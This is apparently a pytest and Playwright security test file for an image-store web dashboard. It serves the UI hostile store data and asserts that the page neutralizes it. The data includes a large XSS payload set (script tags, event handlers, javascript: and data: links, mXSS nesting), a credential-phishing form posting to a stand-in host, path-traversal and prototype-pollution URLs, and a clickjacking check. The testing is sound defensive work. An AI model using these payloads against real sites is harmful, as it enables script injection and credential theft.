"""What a store says is text: none of it runs, loads, or leaves its box."""

from __future__ import annotations

import re
from pathlib import Path
from typing import Any
from urllib.parse import quote, urlsplit

import pytest
from playwright.sync_api import Route, expect

from fakestoreapi import Image
from tests.browser.conftest import MadeRig, NewVisitor
from tests.browser.made_store import MadeStore
from tests.browser.visitor import Visitor
from tests.functional.rig import Daemon

RUN = "window.owned=(window.owned||0)+1"
HTML = f"<script>{RUN}</script><img src=x onerror={RUN}><svg onload={RUN}>"
DESCRIPTION = f"""
<p onclick="{RUN}" onmouseover="{RUN}" style="position:fixed;inset:0;z-index:9999" id="main"
  class="banner">Over all</p>
<script>{RUN}</script><script src="http://elsewhere.example/x.js"></script>
<img src="http://elsewhere.example/pixel.gif" onerror="{RUN}"><svg onload="{RUN}"><svg><style>
<img src=x onerror={RUN}></style></svg><math><mtext><table><mglyph><style><img src=x onerror={RUN}>
<iframe srcdoc="<script>parent.{RUN}</script>"></iframe><object data="javascript:{RUN}"></object>
<embed src="javascript:{RUN}"><form action="http://elsewhere.example/"><input name="secret">
<button>Log in</button></form><style>body{{display:none}}</style>
<link rel="stylesheet" href="http://elsewhere.example/x.css"><base href="http://elsewhere.example/">
<meta http-equiv="refresh" content="0;url=http://elsewhere.example/">
<a href="javascript:{RUN}">one</a><a href="JaVa&#10;ScRiPt:{RUN}">two</a>
<a href="data:text/html,<script>{RUN}</script>">three</a><a href="vbscript:{RUN}">four</a>
<a href="http://elsewhere.example/" target="_blank" ping="http://elsewhere.example/">five</a>
<template><script>{RUN}</script></template>
<details open ontoggle="{RUN}"><summary>s</summary></details>
<video><source onerror="{RUN}"></video><input autofocus onfocus="{RUN}">
<marquee onstart="{RUN}">m</marquee>
<noscript><p title="</noscript><img src=x onerror={RUN}>"></noscript>
"""
LONG = "Wide" * 75
"""As long as the proxy lets a title be."""
TITLES = {
    "script": f"A {HTML}",
    "attribute": f'B" onclick="{RUN}" x=\'',
    "reversed": "C \u202e\u2066gnp.egami \u200b\u200d\ufeff",
    "long": LONG,
    "nul": "E \x00\x07\x1b[31m\r\n\u2028 after",
    "template": "F {{7*7}} ${7*7} <%= 7 %> &lt;b&gt; %3Cscript%3E",
    "combining": "G " + "\u0335\u0489\u20dd" * 90,
    "emoji": "H " + "\U0001f469\u200d\U0001f469\u200d\U0001f467" * 40,
    "blank": " ",
    "unseen": "\u200b\u2060\u3164",
}


def _image(number: int, title: str) -> Image:
    summary = f"{HTML} {LONG * 5}"
    tags = (HTML[:100], "\u202etag", LONG[:100])
    version = f"1.{number}"
    return Image(f"{number:04x}", title, summary, "Servers", tags, version, 1, "hvm", ("image",))


@pytest.fixture(scope="module")
def hostile(made_rig: MadeRig, images: Path) -> Daemon:
    """A proxy of a store whose every text is an attack."""
    offered = [_image(number, title) for number, title in enumerate(TITLES.values())]
    extra: dict[str, dict[str, Any]] = {
        image.id: {
            "description-html": DESCRIPTION,
            "icon-uri": "http://elsewhere.example/icon.png",
            "provider": {"title": HTML, "uri": f"http://elsewhere.example/'\"><{RUN}>"},
        }
        for image in offered
    }
    sections = {"Servers": HTML, f"S {HTML}": LONG, LONG: "x"}
    return made_rig(MadeStore(images, offered, extra, sections))


def harmless(visitor: Visitor) -> None:
    """Nothing ran, and nothing stands in the document that could run or load."""
    page = visitor.page
    assert visitor.ask("window.owned") is None
    for selector in (
        "script:not([src^='/page/'])", "iframe", "object", "embed", "base", "svg [onload]",
        "a[href^='javascript' i]", "a[href^='data' i]", "a[href^='vbscript' i]", "main style",
        "form[action]", "main link", "main meta", "main [style*='position']", "a[ping]",
        "main img[src^='http']",
    ):  # fmt: skip
        found = page.locator(selector)
        assert found.count() == 0, found.first.evaluate("e => e.outerHTML")[:300]
    attributes = visitor.ask(
        "[...document.querySelectorAll('*')].flatMap(e => e.getAttributeNames())"
        ".filter(name => name.startsWith('on'))"
    )
    assert attributes == []
    assert page.locator("#main").count() == 1
    for link in page.locator("a[href^='http']").all():
        assert "noopener" in (link.get_attribute("rel") or ""), link.get_attribute("href")


# What a box holds stays in it, but for what scrolls or is cut off inside.
OUT = """() => [...document.querySelectorAll('article, dialog[open], header, nav')].flatMap(box => {
    const edge = box.getBoundingClientRect();
    return [...box.querySelectorAll('*')].filter(inner => {
        const range = document.createRange();
        range.selectNodeContents(inner);
        for (let up = inner; up !== box.parentElement; up = up.parentElement)
            if (getComputedStyle(up).overflowX !== 'visible') return false;
        return [...range.getClientRects()].some(
            one => one.right > edge.right + 2 || one.left < edge.left - 2);
    }).map(inner => inner.outerHTML.slice(0, 150));
})"""


def boxed(visitor: Visitor) -> None:
    assert visitor.ask(OUT) == []
    assert visitor.ask("document.documentElement.scrollWidth <= innerWidth")


@pytest.mark.parametrize("width", [1280, 360])
def test_hostile_texts_are_shown_as_text_in_their_boxes(
    new_visitor: NewVisitor, hostile: Daemon, width: int
) -> None:
    visitor = new_visitor(hostile.proxy.url, viewport={"width": width, "height": 800})
    visitor.log_in()
    offered = hostile.proxy.get("/api/dashboard")["images"]
    assert len(offered) >= 7
    expect(visitor.cards).to_have_count(len(offered))
    harmless(visitor)
    boxed(visitor)
    expect(visitor.cards.filter(has_text="<script>").first).to_be_visible()
    # The long title does not push the others out of reach.
    for card in visitor.cards.all():
        box = card.bounding_box()
        assert box
        assert box["height"] < 800
    for section in visitor.page.get_by_role("group", name="Sections").get_by_role("button").all():
        box = section.bounding_box()
        assert box is None or box["width"] <= width


def test_a_hostile_image_is_read_and_installed_without_harm(
    new_visitor: NewVisitor, hostile: Daemon
) -> None:
    visitor = new_visitor(hostile.proxy.url)
    visitor.log_in()
    offered = hostile.proxy.get("/api/dashboard")["images"]
    for image in offered:
        card = visitor.cards.filter(has_text=str(image["version"])).first
        card.get_by_role("heading").get_by_role("link").click()
        expect(visitor.page.get_by_role("heading", name="About", exact=True)).to_be_visible()
        harmless(visitor)
        boxed(visitor)
        visitor.page.go_back()
        expect(visitor.cards.first).to_be_visible()
    chosen = next(image for image in offered if "<script>" in image["title"])
    card = visitor.cards.filter(has_text=str(chosen["version"])).first
    card.get_by_role("button", name=re.compile("^Install")).click()
    dialog = visitor.page.get_by_role("dialog")
    expect(visitor.button("Install", dialog)).to_be_enabled()
    harmless(visitor)
    boxed(visitor)
    visitor.button("Install", dialog).click()
    expect(card.get_by_role("button", name=re.compile("^Uninstall"))).to_be_visible(timeout=45_000)
    for view in ("Installed", "Activity", "Sources", "System"):
        visitor.go(view)
        visitor.settle()
        harmless(visitor)
        boxed(visitor)


def test_what_no_proxy_of_ours_would_send_does_no_harm_either(
    new_visitor: NewVisitor, hostile: Daemon
) -> None:
    visitor = new_visitor(hostile.proxy.url)

    def worse(route: Route) -> None:
        answer = route.fetch()
        told = answer.json()
        for number, image in enumerate(told["images"]):
            image["title"] = f"{number} \x00\x1b {HTML} {'Wide' * 2500}"
            image["summary"] = [HTML, 7, "\x00" * 1000][number % 3]
            image["version"] = number * 1e300
            image["description-html"] = DESCRIPTION
            image["provider"] = {"title": HTML, "uri": f"javascript:{RUN}"}
            image["icon-uri"] = f"javascript:{RUN}"
        for state in told["states"]:
            state["actions"] = {"install": f"javascript:{RUN}", f"on{HTML}": "http://elsewhere/"}
            state["error-message"] = HTML * 50
            state["stage"] = HTML
        for section in told["sections"]:
            section["title"] = f"{HTML} {'Wide' * 2500}"
        told["error-message"] = HTML
        route.fulfill(response=answer, json=told)

    visitor.page.route(re.compile("/api/dashboard"), worse)
    visitor.log_in()
    expect(visitor.cards.first).to_be_visible()
    harmless(visitor)
    boxed(visitor)


@pytest.mark.parametrize(
    "address",
    [
        f"/store?q={quote(HTML)}",
        f"/store?section={quote(HTML)}",
        f"/image/{quote(HTML)}",
        "/image/..%2f..%2f..%2fetc",
        "/image/..\\..\\healthz",
        "/image/%",
        f"/{quote(HTML)}",
        "/__proto__",
        "/constructor",
        "/store?q=%E0%A4%A",
        "/store?q=" + "x" * 5000,
    ],
)
def test_a_hostile_address_does_nothing(new_visitor: NewVisitor, shown: Any, address: str) -> None:
    visitor = new_visitor(shown.daemon.proxy.url)
    visitor.watch.expect(r"^resource: .* status of 4\d\d ")
    visitor.log_in(address)
    main = visitor.page.get_by_role("main")
    expect(main.get_by_role("heading", level=1)).to_be_visible()
    visitor.settle()
    harmless(visitor)
    assert "/healthz" not in [urlsplit(request.url).path for request in visitor.watch.requests]
    visitor.go("Store")
    visitor.go("Installed")


def test_no_other_site_can_frame_the_page(new_visitor: NewVisitor, shown: Any) -> None:
    visitor = new_visitor(shown.daemon.proxy.url)
    visitor.watch.expect("frame-ancestors|X-Frame-Options|^resource: .*BLOCKED_BY_RESPONSE")
    visitor.watch.allow_host("http://another.example/")
    frame = f"<iframe src='{visitor.base}/'></iframe>"
    visitor.page.route(
        "http://another.example/",
        lambda route: route.fulfill(body=frame, content_type="text/html"),
    )
    visitor.page.goto("http://another.example/")
    visitor.page.wait_for_timeout(500)
    framed = visitor.page.frames[-1]
    assert framed.get_by_role("button", name="Log in").count() == 0
